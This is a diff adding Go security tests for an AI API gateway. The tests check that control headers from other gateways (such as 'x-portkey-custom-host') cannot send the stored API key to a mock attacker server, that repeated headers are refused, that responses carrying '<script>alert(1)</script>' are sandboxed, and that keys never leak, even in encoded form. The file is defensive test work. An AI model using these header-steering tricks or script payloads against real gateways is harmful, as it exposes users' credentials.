@@ -1,0 +1,170 @@
+package test
+
+import (
+	"encoding/base64"
+	"fmt"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"strings"
+	"testing"
+
+	"github.com/airatelimit/airatelimit/test/stack"
+)
+
+// A gateway behind us obeys its own control headers: with one of them a client had the stored key sent to a server of
+// its choice.
+func TestTrust_AnotherGatewaysHeadersStayWithUs(t *testing.T) {
+	t.Parallel()
+	stolen := make(chan string, 100)
+	attacker := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { stolen <- r.Header.Get("Authorization") }))
+	t.Cleanup(attacker.Close)
+	steering := []string{"x-portkey-custom-host", "X-Portkey-Base-Url", "helicone-target-url", "cf-aig-gateway-url", "x-litellm-api-base", "X_Portkey_Custom_Host"}
+	standIn := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		for _, name := range steering {
+			host := r.Header.Get(name)
+			if host == "" {
+				host = r.URL.Query().Get(name)
+			}
+			if host == "" {
+				continue
+			}
+			onward, err := http.NewRequest(http.MethodPost, host, nil)
+			if err == nil {
+				onward.Header.Set("Authorization", r.Header.Get("Authorization"))
+				_, _ = http.DefaultClient.Do(onward) //nolint:bodyclose // the test fails where it happens
+			}
+		}
+		_, _ = io.WriteString(w, "{}")
+	})
+	s := stack.New(t, stack.Options{Upstream: standIn})
+	for _, name := range steering {
+		r := openAI.request(s, "u", false)
+		r.Header[name] = []string{attacker.URL}
+		r.Header.Set("Connection", name)
+		r.URL.RawQuery = url.Values{name: {attacker.URL}}.Encode()
+		wantStatus(t, s.Do(r), 200)
+	}
+	select {
+	case key := <-stolen:
+		t.Errorf("the attacker got %q", key)
+	default:
+	}
+}
+
+// A header that may come once and comes twice is refused: the provider could read the other one.
+func TestTrust_RepeatedHeaders(t *testing.T) {
+	t.Parallel()
+	s := stack.New(t, stack.Options{})
+	for i, d := range dialects {
+		for name, values := range map[string][]string{
+			"Content-Type": {"application/json", "application/json"}, "Anthropic-Version": {"2023-06-01", "2023-06-01"}, "X-Client-Request-Id": {"a", "b"},
+			"X-Project-Key": {s.ProjectKey, "pk_other56789012345678901"}, "X-Tier": {"a", "b"}, "X-Provider": {"openai", "google"}, "Authorization": {"Bearer a", "Bearer b"},
+			"X-Stainless-Lang": {"js", "js"},
+		} {
+			r := d.request(s, "u", false)
+			r.Header[name] = values
+			wantErrorShape(t, s.Do(r), i, 400, "invalid_request")
+		}
+		r := d.request(s, "u", false)
+		r.Header["X-Identity"] = []string{"a", "b"}
+		wantErrorShape(t, s.Do(r), i, 400, "invalid_identity")
+		r = d.request(s, "u", false)
+		r.Header["Anthropic-Beta"], r.Header["X-Identity"], r.Header["X-Project-Key"] = []string{"a", "b"}, []string{"u", " u"}, []string{s.ProjectKey, s.ProjectKey}
+		wantStatus(t, s.Do(r), 200)
+	}
+	if n := s.Seen.Total(); n != len(dialects) {
+		t.Errorf("%d requests reached the provider, want %d", n, len(dialects))
+	}
+}
+
+// No page runs on our origin: types are not guessed, and what is neither JSON nor a stream of events is sandboxed.
+func TestTrust_AnswersAreInert(t *testing.T) {
+	t.Parallel()
+	kind := ""
+	s := stack.New(t, stack.Options{Upstream: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+		w.Header()["Content-Type"] = nil
+		if kind != "" {
+			w.Header().Set("Content-Type", kind)
+		}
+		w.Header().Set("Content-Security-Policy", "default-src *")
+		_, _ = io.WriteString(w, "<script>alert(1)</script>")
+	})})
+	for _, kind = range []string{"", "text/html", "application/json", "application/json; charset=utf-8", "text/event-stream", "image/svg+xml", "application/jsonp", "audio/mpeg"} {
+		a := s.Do(openAI.request(s, "u", false))
+		wantStatus(t, a, 200)
+		want := "sandbox"
+		if strings.HasPrefix(kind, "application/json") && kind != "application/jsonp" || kind == "text/event-stream" {
+			want = ""
+		}
+		if got := a.Header.Get("Content-Security-Policy"); got != want || a.Header.Get("Content-Type") != kind {
+			t.Errorf("%q came as %q with content-security-policy %q, want %q", kind, a.Header.Get("Content-Type"), got, want)
+		}
+	}
+	for _, r := range []*http.Request{s.Request("OPTIONS", "/v1/messages", "", ""), s.Request("GET", "/v1/usage", "u", ""), s.Request("GET", "/v1/models", "u", ""),
+		s.Request("GET", "/nowhere", "u", ""), s.Request("POST", "/v1/messages", "", "{}"), openAI.request(s, "u", true)} {
+		if a := s.Do(r); a.Header.Get("X-Content-Type-Options") != "nosniff" {
+			t.Errorf("%s %s: %d has %v", r.Method, r.URL, a.Status, a.Header)
+		}
+	}
+}
+
+// A stored key is never shown, wherever and however a provider quotes it.
+func TestTrust_StoredKeyIsNeverShown(t *testing.T) {
+	t.Parallel()
+	const key = stack.StoredKey
+	quotes := map[string]string{
+		"as it is":             key,
+		"in JSON":              `{"error":{"message":"bad key ` + key + `","code":"x"}}`,
+		"twice":                key + key,
+		"in base64":            base64.StdEncoding.EncodeToString([]byte("user:" + key)),
+		"in base64, aligned":   base64.StdEncoding.EncodeToString([]byte(key)),
+		"in base64, one later": base64.URLEncoding.EncodeToString([]byte("x" + key + "?")),
+	}
+	s := leaky(t)
+	bare := strings.TrimRight(base64.StdEncoding.EncodeToString([]byte(key)), "=")
+	for name, quoted := range quotes {
+		for _, filler := range []int{0, 1000, 300 << 10, 1200 << 10} {
+			for _, status := range []int{200, 400, 500} {
+				for _, kind := range []string{"application/json", "text/event-stream", "text/html"} {
+					t.Run(fmt.Sprintf("%s/%d/%d/%s", name, filler, status, kind), func(t *testing.T) {
+						t.Parallel()
+						r := openAI.request(s, "u", kind == "text/event-stream", "X-Client-Request-Id", fmt.Sprintf("%d", status), "User-Agent", kind)
+						r.Header.Set("X-Stainless-Filler", itoa(filler))
+						r.Header.Set("X-Stainless-Quoted", base64.StdEncoding.EncodeToString([]byte(quoted)))
+						a := s.Do(r)
+						shown := fmt.Sprint(a.Header) + a.Body
+						for _, secret := range []string{key, bare[4:], key[4:]} {
+							if strings.Contains(shown, secret) {
+								i := strings.Index(shown, secret)
+								t.Errorf("status %d: the client sees %q", a.Status, shown[max(0, i-40):i+len(secret)])
+							}
+						}
+					})
+				}
+			}
+		}
+	}
+}
+
+// leaky is a stack whose provider answers as the request's headers say, in pieces that cut a key in two.
+func leaky(t *testing.T) *stack.Stack {
+	t.Helper()
+	return stack.New(t, stack.Options{Upstream: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		quoted, _ := base64.StdEncoding.DecodeString(r.Header.Get("X-Stainless-Quoted"))
+		var status, filler int
+		_, _ = fmt.Sscan(r.Header.Get("X-Client-Request-Id"), &status)
+		_, _ = fmt.Sscan(r.Header.Get("X-Stainless-Filler"), &filler)
+		w.Header().Set("Content-Type", r.UserAgent())
+		for _, name := range []string{"X-Request-Id", "Openai-Version", "Openai-Model", "Retry-After", "X-Leak"} {
+			w.Header().Set(name, "x"+string(quoted))
+		}
+		w.WriteHeader(status)
+		for _, piece := range []string{strings.Repeat("x", filler), "data: " + string(quoted[:3]), string(quoted[3:]), "\n\ndata: {\"error\":\"", string(quoted[:len(quoted)/2]),
+			string(quoted[len(quoted)/2:]), "\"}\n\n", strings.Repeat("y", filler), string(quoted[:len(quoted)-1]), string(quoted[len(quoted)-1:])} {
+			_, _ = io.WriteString(w, piece)
+			_ = http.NewResponseController(w).Flush()
+		}
+	})})
+}
